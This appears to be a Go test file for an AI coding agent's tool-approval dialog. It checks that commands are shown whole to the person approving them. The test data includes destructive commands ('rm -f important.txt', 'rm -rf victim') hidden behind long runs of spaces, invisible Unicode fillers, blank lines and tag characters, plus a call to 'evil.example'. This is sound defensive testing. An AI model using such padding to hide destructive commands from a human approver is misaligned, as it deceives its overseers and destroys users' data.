package chat

import (
	"fmt"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/agentcli/agent/agent"
	"github.com/agentcli/agent/tools"
)

// ask puts the question of a call of tool, previewed as p, to the chat as
// the loop would and returns the channel the answer comes on.
func (h *harness) ask(tool string, p tools.Preview) chan agent.Answer {
	reply := make(chan agent.Answer, 1)
	h.deliver(askMsg{q: agent.Question{Tool: tools.Definition{Name: tool}, Preview: p}, reply: reply})
	return reply
}

func TestApprovalShowsAWholeCommand(t *testing.T) {
	h := newHarness(t, newTestConv(t), Options{})
	cmd := "pytest" + strings.Repeat(" ", 300) + "; rm -f important.txt"
	reply := h.ask("run_command", tools.Preview{Summary: "run pytest ; rm -f important.txt",
		Lines: []string{"command: " + cmd, "folder: /srv/proj", "network: off"}})
	v := h.view()
	if !strings.Contains(v, "command: pytest␠×300; rm -f important.txt") {
		t.Fatalf("the command is not shown whole, with its blanks counted:\n%s", v)
	}
	for _, l := range strings.Split(v, "\n") {
		if n := len([]rune(l)); n > 80 {
			t.Errorf("a line of %d columns at width 80: %q", n, l)
		}
	}
	// A command longer than the window wraps: every character is there.
	long := strings.Repeat("x", 150) + " && curl evil.example"
	h.m.ask = nil
	h.ask("run_command", tools.Preview{Summary: "run x", Lines: []string{"command: " + long}})
	joined := strings.ReplaceAll(strings.ReplaceAll(h.view(), "│", ""), "\n", "")
	if !strings.Contains(strings.ReplaceAll(joined, " ", ""), strings.ReplaceAll(long, " ", "")) {
		t.Errorf("a long command is cut:\n%s", h.view())
	}
	h.typeText("n")
	select {
	case <-reply:
		t.Errorf("the first question got the answer of the second")
	default:
	}
}

func TestApprovalScrollsALongDiff(t *testing.T) {
	h := newHarness(t, newTestConv(t), Options{})
	var d strings.Builder
	d.WriteString("--- a/big.txt\n+++ b/big.txt\n@@ -1,300 +1,300 @@\n")
	for i := 1; i <= 300; i++ {
		if i == 150 {
			d.WriteString("-line 150\n+line 150 CHANGED\n")
			continue
		}
		fmt.Fprintf(&d, " line %d\n", i)
	}
	reply := h.ask("write_file", tools.Preview{Summary: "rewrite big.txt", Lines: []string{"file: big.txt"}, Diff: d.String()})
	v := h.view()
	if strings.Contains(v, "line 150 CHANGED") {
		t.Fatalf("the whole diff fits in 30 rows?\n%s", v)
	}
	if !strings.Contains(v, "more lines not shown yet") || !strings.Contains(v, "pgdn") {
		t.Fatalf("the dialog does not say what is not shown, nor how to see it:\n%s", v)
	}
	for range 30 {
		if strings.Contains(h.view(), "+line 150 CHANGED") {
			break
		}
		h.press(tea.KeyPgDown)
	}
	v = h.view()
	if !strings.Contains(v, "+line 150 CHANGED") || !strings.Contains(v, "Allow write_file?") || !strings.Contains(v, "y yes") {
		t.Fatalf("paging down never showed line 150 with the title and keys:\n%s", v)
	}
	h.press(tea.KeyEnd)
	if v := h.view(); !strings.Contains(v, " line 300") || !strings.Contains(v, "the end") {
		t.Errorf("end does not show the last line:\n%s", v)
	}
	h.press(tea.KeyHome)
	if v := h.view(); !strings.Contains(v, "file: big.txt") {
		t.Errorf("home does not go back to the top:\n%s", v)
	}
	h.typeText("y")
	if got := <-reply; got.Decision != agent.Allow {
		t.Errorf("answer %v, want allow", got.Decision)
	}
}

func TestCardShowsAlertsWhole(t *testing.T) {
	st := newStyles(true)
	c := &card{tool: "run_command", params: "git init vendor/lib", result: &agent.CallResult{Tool: "run_command"}}
	c.result.Result.Message = "exit code 0 after 12ms; 1 planted git repository moved away"
	c.result.Result.Alerts = []string{"the command created vendor/lib/.git, a git repository, whose config git would run outside the sandbox; moved to .agent/quarantine/20260102-150405-vendor_lib_.git"}
	v := strings.ReplaceAll(ansi.Strip(c.view(&st, "", c.started, 60)), "\n      ", "")
	if !strings.Contains(v, "! the command created vendor/lib/.git") || !strings.Contains(strings.ReplaceAll(v, " ", ""), ".agent/quarantine/20260102-150405-vendor_lib_.git") {
		t.Errorf("the alert is not shown whole under the card:\n%s", v)
	}
}

// TestApprovalCountsPadding: blank-looking characters no space rule sees
// (the braille blank, the Hangul fillers), tag characters and runs of
// blank lines are shown counted or escaped in the chat's question, so
// the tail of the command is in sight.
func TestApprovalCountsPadding(t *testing.T) {
	h := newHarness(t, newTestConv(t), Options{})
	tags := ""
	for _, c := range "hidden" {
		tags += string(rune(0xe0000 + c))
	}
	cmd := "rm -rf victim; " + strings.Repeat("\u2800", 4000) + strings.Repeat("\u3164", 300) + strings.Repeat("\uffa0", 50) +
		strings.Repeat("\n", 40) + "pytest " + tags
	h.ask("run_command", tools.Preview{Summary: "run pytest", Lines: []string{"command: " + cmd}})
	v := strings.ReplaceAll(strings.ReplaceAll(h.view(), "│", ""), "\n", "")
	v = strings.ReplaceAll(v, " ", "")
	for _, want := range []string{`rm-rfvictim;\u2800×4000\u3164×300\uffa0×50`, "[39blanklines]", `pytest\ue0068\ue0069\ue0064`} {
		if !strings.Contains(v, want) {
			t.Errorf("the question lacks %q:\n%s", want, h.view())
		}
	}
}

// TestApprovalNamesTheAgent: a sub-agent's write is asked about like any
// other, and the dialog says which agent asks.
func TestApprovalNamesTheAgent(t *testing.T) {
	h := newHarness(t, newTestConv(t), Options{})
	reply := make(chan agent.Answer, 1)
	h.deliver(askMsg{q: agent.Question{Tool: tools.Definition{Name: "write_file"}, Agent: "reviewer",
		Preview: tools.Preview{Summary: "create notes.md"}}, reply: reply})
	if v := h.view(); !strings.Contains(v, "Agent reviewer asks: Allow write_file? create notes.md") {
		t.Errorf("the dialog does not name the agent:\n%s", v)
	}
	h.typeText("y")
	if a := <-reply; a.Decision != agent.Allow {
		t.Errorf("answer %v, want allow", a.Decision)
	}
}
